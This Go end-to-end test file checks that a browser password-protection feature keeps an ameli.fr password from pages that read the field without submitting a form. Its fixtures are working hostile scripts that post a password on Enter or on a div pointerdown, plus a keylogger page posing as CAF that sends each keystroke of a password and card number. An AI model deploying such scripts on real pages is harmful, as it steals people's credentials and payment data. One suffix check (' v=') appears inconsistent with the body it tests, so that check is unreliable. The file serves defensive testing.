package e2e

import (
	"strings"
	"testing"
	"time"
)

// Pages that read the password field without submitting a form: a page
// that posts the field from an Enter keydown handler, and one that posts
// it from a pointerdown on a <div> used as a button. And a suspicious
// page that posts every key typed: there, a password field takes no
// typing at all.
const (
	enterPage = `<!doctype html><html lang="fr"><meta charset="utf-8"><title>Espace</title>
<label>Mot de passe <input id="pw" type="password"></label><script>
document.getElementById("pw").addEventListener("keydown", (e) => {
  if (e.key === "Enter") fetch("/vol", {method: "POST", body: e.target.value});
});</script>`
	divPage = `<!doctype html><html lang="fr"><meta charset="utf-8"><title>Espace</title>
<label>Mot de passe <input id="pw" type="password"></label><div id="go" style="padding:20px;background:#ccc">Valider</div><script>
document.getElementById("go").addEventListener("pointerdown", () => {
  fetch("/vol", {method: "POST", body: document.getElementById("pw").value});
});</script>`
	keyloggerPage = `<!doctype html><html lang="fr"><meta charset="utf-8"><title>CAF - mon compte</title>
<label>Mot de passe <input id="pw" type="password"></label>
<label>Numéro de carte <input id="cb" autocomplete="cc-number"></label><script>
for (const id of ["pw", "cb"]) document.getElementById(id).addEventListener("keyup", (e) => {
  fetch("/touche", {method: "POST", body: "v=" + e.target.value});
});</script>`
)

func serveReaders(s *site) {
	s.setPage("www.ameli.fr", loginPage("ameli — mon compte", ""))
	s.setPage("entree-espace.fr", enterPage)
	s.setPage("bouton-div.fr", divPage)
	s.setPage("caf.net", keyloggerPage)
}

// onlyControl: the control password reached the page's server (the page
// does send what is typed), ameli.fr's did not.
func onlyControl(t *testing.T, posts []string) {
	t.Helper()
	if !leaked(posts, other) {
		t.Fatalf("the control password was not sent: %q", posts)
	}
	if leaked(posts, secret) {
		t.Fatalf("ameli.fr's password reached the page's server: %q", posts)
	}
}

// leaked says whether a recorded body holds pw (raw or form-encoded).
func leaked(posts []string, pw string) bool {
	for _, p := range posts {
		if strings.Contains(p, pw) || strings.Contains(p, strings.ReplaceAll(pw, "!", "%21")) {
			return true
		}
	}
	return false
}

// Asserted at the server: ameli.fr's password never arrives; another
// password does (the control: the pages do send what is typed); on the
// suspicious page nothing typed arrives at all.
func TestBothHostileReadersWithoutSubmit(t *testing.T) {
	eachBrowser(t, func(t *testing.T, d driver) {
		s := d.site()
		serveReaders(s)
		loginOnAmeli(t, d)

		t.Run("Enter keydown", func(t *testing.T) {
			for _, pw := range []string{other, secret} {
				tab := d.tab(t)
				d.navigate(t, tab, "http://entree-espace.fr/")
				d.typeIn(t, tab, "pw", pw+"\r")
				time.Sleep(1500 * time.Millisecond) // what a sending would take
			}
			onlyControl(t, s.postsTo("entree-espace.fr"))
		})
		t.Run("pointerdown on a div", func(t *testing.T) {
			for _, pw := range []string{other, secret} {
				tab := d.tab(t)
				d.navigate(t, tab, "http://bouton-div.fr/")
				d.typeIn(t, tab, "pw", pw)
				d.click(t, tab, "go")
				time.Sleep(1500 * time.Millisecond)
			}
			onlyControl(t, s.postsTo("bouton-div.fr"))
		})
		t.Run("a suspicious page takes no typing", func(t *testing.T) {
			tab := d.tab(t)
			d.navigate(t, tab, "http://caf.net/")
			time.Sleep(500 * time.Millisecond) // the field lock asked for
			d.typeIn(t, tab, "pw", "nouveau-secret")
			d.typeIn(t, tab, "cb", "4970101234567890")
			time.Sleep(1500 * time.Millisecond)
			if v := d.eval(t, tab, `document.getElementById("pw").value + document.getElementById("cb").value`); v != "" {
				t.Fatalf("the fields hold %q", v)
			}
			for _, p := range s.postsTo("caf.net") {
				if !strings.HasSuffix(p, " v=") {
					t.Fatalf("a typed character reached the page's server: %q", p)
				}
			}
		})
	})
}
